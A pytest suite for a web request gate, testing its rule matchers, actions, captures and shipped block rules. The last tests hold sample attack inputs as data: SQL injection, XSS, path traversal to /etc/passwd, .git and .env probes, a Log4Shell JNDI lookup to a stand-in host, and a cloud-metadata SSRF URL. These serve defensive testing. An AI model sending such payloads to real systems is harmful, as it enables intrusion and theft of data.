"""Rules: every subject, matcher and action that the README names, through the real binary."""
import datetime
import json
import pathlib
import re
import time

import pytest

from gate import ROOT, events_of, read_all, wait_for
from origin import response

FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}
MULTIPART = {"Content-Type": "multipart/form-data; boundary=b"}
LOGINS = [{
    "name": "web", "match": {"method": "POST", "path": "/login"}, "user": {"login": "body.username"},
    "user_id": "response.header.x-user-id",
}]


def part(name, value):
    return f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n--b--\r\n'


@pytest.fixture
def ruled(gates, origin, folder):
    """Makes a gate with these rules; each may leave out its id, and blocks unless it says otherwise."""
    def make(*rules, service=None, **settings):
        path = folder / "rules.yaml"
        path.write_text(json.dumps({"rules": [{"id": f"r{number}", **rule} for number, rule in enumerate(rules)]}))
        return gates(
            origin=origin, rules={"files": [str(path)]}, service={"logins": LOGINS, **(service or {})},
            client_address={"trusted_proxies": ["127.0.0.1"]},
            collectors=[{"name": "events", "type": "file", "path": str(folder / "events.jsonl")}], **settings)

    return make


def status(gate, method="GET", path="/", body=None, headers=None):
    return gate.request(method, path, body=body, headers=headers or {})[0]


def post(gate, body, headers=FORM, path="/"):
    return status(gate, "POST", path, body, headers)


# Subjects

MATCHING = [
    # condition, a request that it means, a request that it does not mean
    ({"client.ip": {"ip": "203.0.113.0/24"}}, dict(headers={"X-Forwarded-For": "203.0.113.9"}), dict(headers={"X-Forwarded-For": "203.0.114.9"})),
    ({"client.peer": {"ip": ["127.0.0.0/8"]}}, dict(), None),
    ({"request.method": {"in": ["PUT", "DELETE"]}}, dict(method="DELETE"), dict(method="GET")),
    ({"request.path": {"equals": "/a/b"}}, dict(path="/a/%62"), dict(path="/a/b/")),
    ({"request.path": {"prefix": "/admin"}}, dict(path="/x/..//./admin/1"), dict(path="/x/admin")),
    ({"request.query": {"contains": "a=%31"}}, dict(path="/?a=%31"), dict(path="/?a=1")),
    ({"request.query.name": {"equals": "a b"}}, dict(path="/?x=1&name=a%20b"), dict(path="/?names=a+b")),
    ({"request.header.x-one": {"equals": "1"}}, dict(headers={"X-ONE": "1"}), dict(headers={"X-One": "11"})),
    ({"request.headers": {"contains": "needle"}}, dict(headers={"X-Any": "a needle b"}), dict(headers={"X-Any": "need"})),
    ({"request.cookie.sid": {"suffix": "9"}}, dict(headers={"Cookie": "a=1; sid=129"}), dict(headers={"Cookie": "sid=1; xsid=9"})),
    ({"request.host": {"equals": "login.example"}}, dict(headers={"Host": "LOGIN.example:81"}), dict(headers={"Host": "x.login.example"})),
    ({"request.scheme": {"equals": "http"}}, dict(), None),
    ({"request.version": {"equals": "1.1"}}, dict(), None),
    ({"request.body.user": {"equals": "eve"}}, dict(method="POST", body="x=1&user=e%76e", headers=FORM), dict(method="POST", body="user=evel", headers=FORM)),
    ({"request.body.a.b": {"equals": "7"}}, dict(method="POST", body='{"a":{"b":7}}', headers=JSON), dict(method="POST", body='{"a":{"b":8}}', headers=JSON)),
    ({"request.body.user": {"equals": "eve"}}, dict(method="POST", body=part("user", "eve"), headers=MULTIPART),
     dict(method="POST", body=part("user", "adam"), headers=MULTIPART)),
    ({"request.body": {"contains": "evil"}}, dict(method="POST", body='{"deep":[{"x":"so evil"}]}', headers=JSON),
     dict(method="POST", body='{"deep":["good"]}', headers=JSON)),
    ({"request.body.text": {"regex": "^<\\?xml"}}, dict(method="POST", body="<?xml version='1.0'?>", headers={"Content-Type": "text/xml"}),
     dict(method="POST", body="plain", headers={"Content-Type": "text/plain"})),
    ({"usr.login": {"prefix": "admin"}}, dict(method="POST", path="/login", body="username=administrator", headers=FORM),
     dict(method="POST", path="/login", body="username=alice", headers=FORM)),
]


@pytest.mark.parametrize("condition, meant, other", MATCHING, ids=lambda value: str(value)[:60])
def test_a_subject_is_read_where_the_request_carries_it(ruled, origin, condition, meant, other):
    gate = ruled({"when": [condition]})
    assert status(gate, **meant) == 403
    assert origin.requests == []
    if other is not None:
        assert status(gate, **other) == 200


def test_a_fingerprint_of_an_event_can_be_a_condition(ruled, folder):
    gate = ruled({"when": [{"request.header.x-none": {"exists": True}}]})
    cookie = {**FORM, "Cookie": "sid=1"}
    assert post(gate, "username=a&password=b", cookie, path="/login") == 200
    prints = events_of(folder / "events.jsonl")[0]["fingerprint"]
    for kind in ("http", "header", "network", "session"):
        (folder / "rules.yaml").write_text(json.dumps(
            {"rules": [{"id": kind, "when": [{f"fingerprint.{kind}": {"equals": prints[kind]}}]}]}))
        gate.reload()
        assert post(gate, "username=a&password=b", cookie, path="/login") == 403, kind
        assert post(gate, "username=a&password=b&c=d", {**FORM, "X-Forwarded-For": "192.0.2.1", "Cookie": "sid=2", "Accept": "*/*"}, path="/login") == 200, kind


@pytest.mark.parametrize("told", ["response.header.x-user-id", "response.cookie.uid"])
def test_the_user_that_an_answer_names_can_be_a_condition(ruled, origin, told):
    gate = ruled({"when": [{"usr.id": {"equals": "u-7"}}]}, service={"logins": [{**LOGINS[0], "user_id": told}]})
    for user, wanted in (("u-7", 403), ("u-77", 200)):
        origin.answer = response(200, b"ok", f"X-User-Id: {user}", f"Set-Cookie: uid={user}; Path=/")
        assert post(gate, "username=a&password=b", path="/login") == wanted


# Matchers

@pytest.mark.parametrize("matcher, yes, no", [
    ({"equals": "AbC", "case": "insensitive"}, ["abc", "ABC"], ["abcd"]),
    ({"equals": "AbC"}, ["AbC"], ["abc"]),
    ({"in": ["a", "b"]}, ["a", "b"], ["c", "ab"]),
    ({"prefix": "py", "case": "insensitive"}, ["PYthon"], ["xpy"]),
    ({"suffix": ".exe"}, ["a.exe"], ["a.exe.txt"]),
    ({"contains": "one"}, ["xonex", "one"], ["on e"]),
    ({"regex": "^(a|b){2,3}c?$"}, ["ab", "abac"], ["a", "abcd"]),
    ({"regex": "(\\w+) \\1"}, None, None),
    ({"regex": "\\bEVIL\\b", "case": "insensitive"}, ["so evil it is"], ["devil"]),
    ({"gt": 10}, ["11", "10.5"], ["10", "9", "x"]),
    ({"lt": -1}, ["-2"], ["-1", "0"]),
    ({"ip": ["192.0.2.0/24", "2001:db8::/32"]}, ["192.0.2.77", "2001:db8::9", "::ffff:192.0.2.1"], ["192.0.3.1", "x"]),
    ({"exists": True}, ["", "x"], []),
    ({"equals": "<script>", "transform": ["url_decode", "lowercase"]}, ["%3CScRiPt%3E"], ["script"]),
    ({"contains": "select 1", "transform": ["compress_whitespace"]}, ["select \t  1"], ["select1"]),
], ids=lambda value: str(value)[:40])
def test_a_matcher_says_yes_and_no(ruled, gates, origin, folder, matcher, yes, no):
    rule = {"id": "r", "when": [{"request.header.x-value": matcher}]}
    if yes is None:
        # A back reference has no linear-time meaning: it is refused with its place, not skipped.
        from gate import Gate
        (folder / "bad.yaml").write_text(json.dumps({"rules": [rule]}))
        gate = Gate(folder / "gate", origin=origin, rules={"files": [str(folder / "bad.yaml")]}).start(wait=False)
        assert gate.process.wait(10) == 78
        wait_for(lambda: gate.logged("bad.yaml:1:"))
        return
    gate = ruled(rule)
    assert {value: status(gate, headers={"X-Value": value}) for value in yes} == dict.fromkeys(yes, 403)
    assert {value: status(gate, headers={"X-Value": value}) for value in no} == dict.fromkeys(no, 200)


def test_in_and_ip_take_files(ruled, folder):
    (folder / "agents.txt").write_text("# known\nbad one\nworse\n")
    (folder / "nets.txt").write_text("198.51.100.0/24\n2001:db8::/32\n")
    gate = ruled(
        {"when": [{"request.header.user-agent": {"in": f"file:{folder}/agents.txt"}}]},
        {"when": [{"client.ip": {"ip": f"file:{folder}/nets.txt"}}]})
    assert status(gate, headers={"User-Agent": "bad one"}) == 403
    assert status(gate, headers={"User-Agent": "bad"}) == 200
    assert status(gate, headers={"X-Forwarded-For": "198.51.100.7"}) == 403
    assert status(gate, headers={"X-Forwarded-For": "2001:db8::7"}) == 403
    assert status(gate, headers={"X-Forwarded-For": "198.51.101.7"}) == 200


# Nesting

def test_all_conditions_must_hold_and_any_and_not_nest(ruled):
    gate = ruled({"when": [
        {"request.path": {"prefix": "/a"}},
        {"any": [{"request.header.x": {"equals": "1"}}, {"not": [{"request.header.y": {"exists": True}}, {"request.header.z": {"exists": True}}]}]},
    ]})
    both = {"Y": "1", "Z": "1"}
    assert status(gate, path="/a") == 403
    assert status(gate, path="/a", headers={"Y": "1"}) == 403
    assert status(gate, path="/a", headers=both) == 200
    assert status(gate, path="/a", headers={"X": "1", **both}) == 403
    assert status(gate, path="/b", headers={"X": "1"}) == 200


def test_a_negation_holds_on_a_missing_value(ruled):
    gate = ruled({"when": [{"not": {"request.header.accept-language": {"regex": "de|en"}}}]})
    assert status(gate) == 403
    assert status(gate, headers={"Accept-Language": "fr"}) == 403
    assert status(gate, headers={"Accept-Language": "de-AT"}) == 200
    gate = ruled({"when": [{"request.header.accept-language": {"exists": False}}]})
    assert status(gate) == 403
    assert status(gate, headers={"Accept-Language": ""}) == 200


# Modes, scope, end

def test_monitor_writes_down_off_does_nothing_and_block_wins(ruled):
    condition = [{"request.path": {"prefix": "/m"}}]
    gate = ruled({"id": "quiet", "mode": "off", "when": condition}, {"id": "watch", "mode": "monitor", "when": condition},
                 {"id": "stop", "when": [{"request.path": {"equals": "/m/stop"}}]})
    assert status(gate, path="/m") == 200
    assert status(gate, path="/m/stop") == 403
    first, second = gate.accesses(2)
    assert (first["verdict"], first["rule"]) == ("monitor", "watch")
    assert (second["verdict"], second["rule"]) == ("block", "stop")


def test_with_the_whole_gate_in_monitor_mode_nothing_is_stopped(ruled, origin):
    gate = ruled({"when": [{"request.path": {"prefix": "/"}}]}, mode="monitor")
    assert status(gate) == 200
    assert gate.accesses()[0]["verdict"] == "monitor"
    assert len(origin.requests) == 1


def test_a_rule_means_only_its_services(ruled, gates, origin, folder):
    (folder / "scoped.yaml").write_text(json.dumps({"rules": [{"id": "r", "services": ["two"], "when": [{"request.path": {"prefix": "/"}}]}]}))
    server = {"servers": [f"http://127.0.0.1:{origin.port}"]}
    gate = gates(origin=origin, rules={"files": [str(folder / "scoped.yaml")]},
                 services=[{"name": "one", "hosts": ["one.example"], "upstream": server}, {"name": "two", "hosts": ["two.example"], "upstream": server}])
    assert status(gate, headers={"Host": "one.example"}) == 200
    assert status(gate, headers={"Host": "two.example"}) == 403


def test_an_expired_rule_says_nothing_and_one_expires_while_it_runs(ruled):
    soon = (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(seconds=2)).strftime("%Y-%m-%dT%H:%M:%SZ")
    gate = ruled({"expires": "2020-01-01T00:00:00Z", "when": [{"request.path": {"prefix": "/old"}}]},
                 {"expires": soon, "when": [{"request.path": {"prefix": "/new"}}]})
    assert status(gate, path="/old") == 200
    wait_for(lambda: status(gate, path="/new") == 200)


# Actions

def test_the_block_page_is_html_or_json_as_the_client_asks_and_names_the_request(ruled):
    gate = ruled({"when": [{"request.path": {"equals": "/no"}}], "then": {"action": "block", "status": 418}})
    answered, fields, body = gate.request(path="/no", headers={"Accept": "text/html,*/*;q=0.1"})
    assert answered == 418 and fields["Content-Type"].startswith("text/html")
    identifier = fields["X-Request-Id"]
    assert identifier and identifier.encode() in body
    answered, fields, body = gate.request(path="/no", headers={"Accept": "application/json"})
    assert answered == 418 and fields["Content-Type"].startswith("application/json")
    assert fields["X-Request-Id"] in json.dumps(json.loads(body))
    assert fields["Cache-Control"] == "no-store"
    assert gate.accesses(2)[1]["request_id"] == fields["X-Request-Id"]


def test_pages_of_ones_own_are_shown_with_the_request_id(ruled, folder):
    (folder / "page.html").write_text("<p>Nein: {request_id}</p>")
    (folder / "page.json").write_text('{"nein":"{request_id}"}')
    gate = ruled({"when": [{"request.path": {"equals": "/no"}}]}, block_page={"html": str(folder / "page.html"), "json": str(folder / "page.json")})
    _, fields, body = gate.request(path="/no", headers={"Accept": "text/html"})
    assert body.decode() == f"<p>Nein: {fields['X-Request-Id']}</p>"
    _, fields, body = gate.request(path="/no", headers={"Accept": "application/json"})
    assert json.loads(body) == {"nein": fields["X-Request-Id"]}


def test_redirect_respond_and_close(ruled, origin):
    gate = ruled(
        {"when": [{"request.path": {"equals": "/away"}}], "then": {"action": "redirect", "location": "https://example.org/x", "status": 307}},
        {"when": [{"request.path": {"equals": "/own"}}], "then": {"action": "respond", "status": 429, "content_type": "text/plain", "body": "later"}},
        {"when": [{"request.path": {"equals": "/shut"}}], "then": {"action": "close"}})
    answered, fields, _ = gate.request(path="/away")
    assert (answered, fields["Location"]) == (307, "https://example.org/x")
    answered, fields, body = gate.request(path="/own")
    assert (answered, fields["Content-Type"], body) == (429, "text/plain", b"later")
    assert gate.send(b"GET /shut HTTP/1.1\r\nHost: a\r\n\r\n") == b""
    assert origin.requests == []


def test_a_delay_holds_the_request_and_lets_others_pass(ruled, origin):
    gate = ruled({"when": [{"request.path": {"equals": "/slow"}}], "then": {"action": "delay", "time": "1s"}})
    with gate.connect() as client:
        start = time.monotonic()
        client.sendall(b"GET /slow HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
        for _ in range(20):
            assert status(gate, path="/fast") == 200
        assert [request.line for request in origin.requests].count("GET /slow HTTP/1.1") == 0
        assert read_all(client).startswith(b"HTTP/1.1 200")
        assert time.monotonic() - start >= 1


@pytest.mark.parametrize("body, path", [("username=a&x=evil", "/login"), ("username=a&x=evil", "/"), ("username=mallory", "/login")])
def test_a_delay_is_not_a_way_around_what_comes_after_it(ruled, origin, body, path):
    gate = ruled(
        {"when": [{"request.path": {"prefix": "/"}}], "then": {"action": "delay", "time": "10ms"}},
        {"when": [{"request.body.x": {"equals": "evil"}}]}, {"when": [{"usr.login": {"equals": "mallory"}}]})
    assert post(gate, body, path=path) == 403
    assert origin.requests == []
    assert post(gate, "username=b", path=path) == 200
    assert [request.body for request in origin.requests] == [b"username=b"]


def test_a_delayed_name_is_still_looked_up_in_the_denylist(ruled, origin, folder):
    (folder / "deny.txt").write_text("usr.login=mallory - out\n")
    gate = ruled({"when": [{"request.path": {"prefix": "/"}}], "then": {"action": "delay", "time": "10ms"}},
                 denylist={"files": [str(folder / "deny.txt")]})
    assert post(gate, "username=mallory", path="/login") == 403
    assert origin.requests == []
    assert post(gate, "username=alice", path="/login") == 200


@pytest.mark.parametrize("then", [
    {"action": "redirect", "location": "https://example.org/"}, {"action": "respond", "status": 429, "body": "x"}, {"action": "close"},
    {"action": "delay", "time": "30s"}, {"action": "flag"},
], ids=lambda then: then["action"])
def test_no_action_is_carried_out_when_only_watching(ruled, origin, then):
    condition = [{"request.path": {"prefix": "/"}}]
    gate = ruled({"id": "w", "mode": "monitor", "when": condition, "then": then})
    assert status(gate) == 200
    gate = ruled({"id": "w", "when": condition, "then": then}, mode="monitor")
    assert status(gate) == 200
    assert len(origin.requests) == 2
    assert all(request.all("X-Loginward-Flag") == [] for request in origin.requests)
    assert gate.accesses()[0]["rule"] == "w"


def test_a_flag_goes_to_the_upstream_and_only_the_gate_may_set_it(ruled, origin):
    gate = ruled(
        {"id": "odd", "when": [{"request.header.x-odd": {"exists": True}}], "then": {"action": "flag"}},
        {"id": "risk", "when": [{"request.header.x-odd": {"equals": "2"}}], "then": {"action": "flag", "header": "X-Risk", "value": "high"}})
    assert status(gate, headers={"X-Odd": "1", "X-Loginward-Flag": "forged", "X-Risk": "forged"}) == 200
    assert origin.requests[-1].all("X-Loginward-Flag") == ["odd"]
    assert origin.requests[-1].all("X-Risk") == []
    assert status(gate, headers={"X-Odd": "2"}) == 200
    assert origin.requests[-1].all("X-Loginward-Flag") == ["odd"]
    assert origin.requests[-1].all("X-Risk") == ["high"]
    assert status(gate, headers={"X-Loginward-Flag": "forged", "X-Risk": "forged"}) == 200
    assert origin.requests[-1].all("X-Loginward-Flag") + origin.requests[-1].all("X-Risk") == []


# Answers

def test_the_status_and_the_fields_of_an_answer_can_stop_it(ruled, origin):
    gate = ruled({"when": [{"response.status": {"gt": 499}}], "then": {"action": "block", "status": 503}},
                 {"when": [{"response.header.x-secret": {"exists": True}}]})
    origin.answer = response(500, b"stack trace with secrets")
    answered, _, body = gate.request()
    assert answered == 503 and b"stack trace" not in body
    origin.answer = response(200, b"ok", "X-Secret: 1")
    answered, fields, _ = gate.request()
    assert answered == 403 and fields["X-Secret"] is None
    origin.answer = response(200, b"ok")
    assert status(gate) == 200


def test_the_body_of_an_answer_is_watched(ruled, origin):
    gate = ruled({"id": "leak", "mode": "monitor", "when": [{"response.body.text": {"contains": "ORA-00933"}}]},
                 {"id": "field", "mode": "monitor", "when": [{"response.body.error.code": {"equals": "E7"}}]})
    origin.answer = response(200, b"so ORA-00933: sql", "Content-Type: text/html")
    assert status(gate) == 200
    origin.answer = response(200, b'{"error":{"code":"E7"}}', "Content-Type: application/json")
    assert status(gate) == 200
    assert [line.get("rule") for line in gate.accesses(2)] == ["leak", "field"]


# Captures and tags

def test_tags_and_captures_reach_the_event(ruled, folder):
    gate = ruled({"id": "tool", "mode": "monitor", "tags": {"type": "attack_tool"}, "capture": {"agent": "request.header.user-agent"},
                  "when": [{"request.header.user-agent": {"prefix": "Tool/"}}]})
    assert post(gate, "username=a&password=b", {**FORM, "User-Agent": "Tool/9"}, path="/login") == 200
    event = events_of(folder / "events.jsonl")[0]
    assert event["verdict"] == {"action": "monitor", "rule": "tool"}
    assert event["tags"]["type"] == "attack_tool" and event["tags"]["agent"] == "Tool/9"
    assert event["blocked"] is False


def test_a_capture_reads_what_is_known_before_and_after_its_rule_was_decided(ruled, origin, folder):
    captures = {
        "early": "request.header.x-early", "asked": "request.query.q", "typed": "request.body.extra", "told": "response.header.x-told",
        "whole": "response.status"}
    gate = ruled(
        {"id": "head", "mode": "monitor", "when": [{"request.path": {"equals": "/login"}}], "capture": {f"head.{k}": v for k, v in captures.items()}},
        {"id": "body", "mode": "monitor", "when": [{"request.body.extra": {"exists": True}}], "capture": {f"body.{k}": v for k, v in captures.items()}},
        {"id": "answer", "mode": "monitor", "when": [{"response.status": {"equals": "200"}}], "capture": {f"answer.{k}": v for k, v in captures.items()}})
    origin.answer = response(200, b"ok", "X-Told: 4")
    assert post(gate, "username=a&extra=3", {**FORM, "X-Early": "1"}, path="/login?q=2") == 200
    tags = events_of(folder / "events.jsonl")[0]["tags"]
    wanted = dict(zip(captures, ["1", "2", "3", "4", "200"]))
    assert {name: tags.get(name) for name in (f"{rule}.{name}" for rule in ("head", "body", "answer") for name in wanted)} == {
        f"{rule}.{name}": value for rule in ("head", "body", "answer") for name, value in wanted.items()}


def test_a_blocked_login_carries_what_its_rule_captures(ruled, folder):
    gate = ruled({"id": "stop", "when": [{"request.header.user-agent": {"prefix": "Tool/"}}], "capture": {"typed": "request.body.username"}})
    assert post(gate, "username=alice", {**FORM, "User-Agent": "Tool/1"}, path="/login") == 403
    assert events_of(folder / "events.jsonl")[0]["tags"]["typed"] == "alice"


# Rules that cannot be honoured

def unusable(**rule):
    return {"id": "r", "when": [{"request.path": {"prefix": "/"}}], **rule}


@pytest.mark.parametrize("rule", [
    unusable(when=[{"request.nonsense": {"equals": "1"}}]), unusable(when=[{"request.path": {"like": "1"}}]),
    unusable(when=[{"request.path": {"regex": "("}}]), unusable(when=[{"client.ip": {"ip": "10.0.0.1/8"}}]),
    unusable(when=[{"request.path": {"equals": "1", "transform": ["rot13"]}}]), unusable(then={"action": "explode"}),
    unusable(when=[{"request.path": {"in": "file:/does/not/exist"}}]), unusable(services=["nobody"]), unusable(expires="tomorrow"), unusable(mode="maybe"),
    unusable(when=[{"response.body.text": {"contains": "x"}}]),
    unusable(when=[{"response.status": {"equals": "401"}}], then={"action": "delay", "time": "1s"}),
    unusable(when=[{"response.status": {"equals": "401"}}], then={"action": "flag"}),
], ids=lambda rule: json.dumps({key: rule[key] for key in rule if key != "id"})[:70])
def test_a_rule_that_cannot_be_honoured_is_refused_with_its_place_and_the_old_ones_stay(ruled, folder, rule):
    gate = ruled({"when": [{"request.path": {"equals": "/no"}}]})
    (folder / "rules.yaml").write_text("rules:\n  - " + json.dumps(rule) + "\n  - " + json.dumps({**rule, "id": "s"}) + "\n")
    gate.reload()
    assert gate.logged("rules.yaml:2:") and gate.logged("rules.yaml:3:")
    assert (status(gate, path="/no"), status(gate, path="/yes")) == (403, 200)
    assert gate.metric("loginward_config_last_reload_successful") == 0


# The rules that are shipped

BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Accept-Language": "de,en;q=0.5",
    "Accept-Encoding": "gzip, deflate, br", "Accept": "text/html,application/xhtml+xml,*/*;q=0.8",
}


@pytest.fixture
def shipped(gates, origin):
    return gates(origin=origin, rules={"files": [str(ROOT / "config/rules/*.yaml")]}, service={"logins": LOGINS})


def test_fifty_rules_are_shipped_and_loaded(shipped):
    text = "".join(path.read_text() for path in (ROOT / "config/rules").glob("*.yaml"))
    assert len(re.findall(r"(?m)^  - id: ", text)) == 50
    assert json.loads(shipped.admin("/status")[1])["rules"] == 50


@pytest.mark.parametrize("path", [
    "/", "/login?next=%2Faccount%3Ftab%3Dsecurity", "/search?q=union+square+select+hotel", "/search?q=O%27Reilly+or+Smith", "/a.b/c-d_e~f",
    "/realms/x/protocol/openid-connect/auth?client_id=app&redirect_uri=https%3A%2F%2Fapp.example%2Fcb&scope=openid&state=a%2Bb%3D%3D",
    "/.well-known/openid-configuration", "/static/app.min.js?v=1.2.3", "/?q=1%3D1", "/?comment=I+love+scripts+%26+images", "/environment", "/git",
])
def test_a_browser_passes_the_shipped_rules(shipped, path):
    assert status(shipped, path=path, headers=BROWSER) == 200


def test_a_browsers_login_and_an_api_clients_login_pass_the_shipped_rules(shipped):
    body = "username=o%27brien%40example.org&password=%27+or+1%3D1+--"
    assert post(shipped, body, {**FORM, **BROWSER, "Origin": "http://a"}, "/login") == 200
    assert post(shipped, body, {**FORM, "User-Agent": "curl/8.5.0"}, "/login") == 200


@pytest.mark.parametrize("request_", [
    dict(headers={"User-Agent": "sqlmap/1.8.2#stable (https://sqlmap.org)"}), dict(headers={"User-Agent": "Mozilla/5.0 (Nikto/2.5.0)"}),
    dict(path="/?id=1%20UNION%20SELECT%20null,user()%20FROM%20dual"), dict(path="/?id=1%27%20or%20%271%27=%271"), dict(path="/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    dict(path="/?f=../../../../etc/passwd"), dict(path="/.git/config"), dict(path="/.ENV"), dict(path="/x/%2e%2e/.git/HEAD"), dict(path="/phpmyadmin/"),
    dict(path="/?x=${jndi:ldap://evil/a}"), dict(headers={"User-Agent": "${jndi:ldap://evil/a}"}), dict(method="TRACE"), dict(path="/shell.php"),
    dict(method="POST", path="/login", body="username=%27+or+1%3D1+--&password=x", headers=FORM),
    dict(headers={"X-Middleware-Subrequest": "middleware"}), dict(path="/?u=http://169.254.169.254/latest/meta-data"),
], ids=lambda value: str(value)[:60])
def test_an_attack_is_stopped_by_the_shipped_rules(shipped, origin, request_):
    assert status(shipped, **request_) in (403, 404, 405)
    assert shipped.accesses()[0]["verdict"] == "block"
    assert origin.requests == []


def test_the_shipped_examples_are_checked_configurations():
    import subprocess

    from gate import binary
    for name in ("demo.yaml", "loginward.yaml"):
        done = subprocess.run([binary(), "check", str(pathlib.Path(ROOT) / "config" / name)], capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
